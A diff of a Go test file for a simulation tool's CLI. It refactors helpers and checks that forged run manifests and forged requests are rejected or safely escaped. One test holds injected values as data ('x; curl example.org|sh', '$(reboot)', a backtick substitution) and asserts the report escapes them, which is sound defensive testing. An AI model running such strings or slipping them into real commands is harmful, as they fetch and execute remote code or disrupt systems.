@@ -2,7 +2,9 @@ package main
 
 import (
 	"context"
+	"crypto/sha256"
 	"encoding/json"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
@@ -10,6 +12,8 @@ import (
 	"testing"
 
 	"github.com/stretchr/testify/require"
+
+	"corridor/sim/runs"
 )
 
 // told runs a command line and returns its exit code and all it prints.
@@ -35,7 +39,7 @@ func forge(t *testing.T, dir string, change func(m map[string]any)) string {
 	t.Helper()
 	forged := filepath.Join(t.TempDir(), "r")
 	require.NoError(t, os.CopyFS(forged, os.DirFS(dir)))
-	file := filepath.Join(forged, manifestFile)
+	file := filepath.Join(forged, runs.ManifestFile)
 	text, err := os.ReadFile(file)
 	require.NoError(t, err)
 	m := map[string]any{}
@@ -93,7 +97,7 @@ func TestForgedManifests(t *testing.T) {
 		"bytes":                                    func(m map[string]any) { first(m)["bytes"] = -1 },
 		"hash":                                     func(m map[string]any) { first(m)["sha256"] = "x" },
 		"hash of scenario":                         func(m map[string]any) { m["effective"].([]any)[0].(map[string]any)["sha256"] = "<b>" },
-		"drawn elsewhere":                          put("drawn", []any{map[string]any{"path": "new.csv", "bytes": 0, "sha256": hash(nil)}}),
+		"drawn elsewhere":                          put("drawn", []any{map[string]any{"path": "new.csv", "bytes": 0, "sha256": sha256Of(nil)}}),
 	} {
 		t.Run(name, func(t *testing.T) {
 			forged := forge(t, dir, change)
@@ -103,7 +107,7 @@ func TestForgedManifests(t *testing.T) {
 				require.NotContains(t, text, "\x1b")
 				require.NotContains(t, text, "\u202e")
 			}
-			require.NoFileExists(t, filepath.Join(forged, reportFile))
+			require.NoFileExists(t, filepath.Join(forged, runs.ReportFile))
 		})
 	}
 }
@@ -115,7 +119,7 @@ func TestForgedRequest(t *testing.T) {
 	})
 	code, text := told("report", dir)
 	require.Equal(t, exitDone, code, text)
-	page, err := os.ReadFile(filepath.Join(dir, reportFile))
+	page, err := os.ReadFile(filepath.Join(dir, runs.ReportFile))
 	require.NoError(t, err)
 	require.Contains(t, string(page), "<code>corridor run &#39;x; curl example.org|sh&#39; --with &#39;$(reboot)&#39; --set &#39;a=`b`&#39;</code>")
 	code, text = told("verify", dir)
@@ -162,7 +166,7 @@ func TestVerifyFindsEveryDifference(t *testing.T) {
 	}
 	listed := func(name, content string) func(map[string]any) {
 		return func(m map[string]any) {
-			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": name, "bytes": len(content), "sha256": hash([]byte(content))})
+			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": name, "bytes": len(content), "sha256": sha256Of([]byte(content))})
 		}
 	}
 	for name, c := range map[string]change{
@@ -188,7 +192,7 @@ func TestVerifyFindsEveryDifference(t *testing.T) {
 		"a hole":                      {nil, hole("annual.csv", 1<<40), "annual.csv: the file has been changed since it was written\n"},
 		"a hole that is listed": {func(m map[string]any) {
 			strike("outputs", "annual.csv")(m)
-			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": "annual.csv", "bytes": 1 << 40, "sha256": hash(nil)})
+			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": "annual.csv", "bytes": 1 << 40, "sha256": sha256Of(nil)})
 		}, hole("annual.csv", 1<<40), "annual.csv: a new run gives another result\n"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -235,13 +239,13 @@ func TestIrregularFiles(t *testing.T) {
 	outside := filepath.Join(t.TempDir(), "outside")
 	require.NoError(t, os.CopyFS(outside, os.DirFS(dir)))
 	for what, change := range irregular(outside) {
-		for _, name := range []string{"annual.csv", "datapackage.json", manifestFile} {
+		for _, name := range []string{"annual.csv", "datapackage.json", runs.ManifestFile} {
 			t.Run(what+" for "+name, func(t *testing.T) {
 				forged := forge(t, dir, func(map[string]any) {})
 				change(name)(t, forged)
 				for _, command := range []string{"verify", "report", "plot"} {
 					want := exitInvalid
-					if command == "verify" && name != manifestFile {
+					if command == "verify" && name != runs.ManifestFile {
 						want = exitMismatch
 					}
 					code, text := told(command, forged)
@@ -267,37 +271,4 @@ func TestVerifyOfUnreadableFile(t *testing.T) {
 	}
 }
 
-// Results that others take the place of while they are read are read again.
-func TestReadAgain(t *testing.T) {
-	dir := runOfLine(t, "none")
-	for name, replace := range map[string]func(){
-		"by another directory": func() {
-			require.NoError(t, os.Rename(dir, dir+"-old"))
-			require.NoError(t, os.CopyFS(dir, os.DirFS(dir+"-old")))
-		},
-		"in the same one": func() {
-			code, text := told("report", dir)
-			require.Equal(t, exitDone, code, text)
-		},
-		"and gone": func() {
-			old, fresh := dir+"-gone", dir+"-fresh"
-			require.NoError(t, os.CopyFS(fresh, os.DirFS(dir)))
-			require.NoError(t, os.Rename(dir, old))
-			require.NoError(t, os.Rename(fresh, dir))
-			require.NoError(t, os.RemoveAll(old))
-		},
-	} {
-		t.Run(name, func(t *testing.T) {
-			looks, v := 0, &verification{}
-			err := readResults(context.Background(), dir, func(r *results) error {
-				if looks++; looks == 1 {
-					replace()
-				}
-				return v.look(context.Background(), r)
-			})
-			require.NoError(t, err)
-			require.Equal(t, 2, looks)
-			require.Empty(t, v.differences)
-		})
-	}
-}
+func sha256Of(content []byte) string { return fmt.Sprintf("%x", sha256.Sum256(content)) }
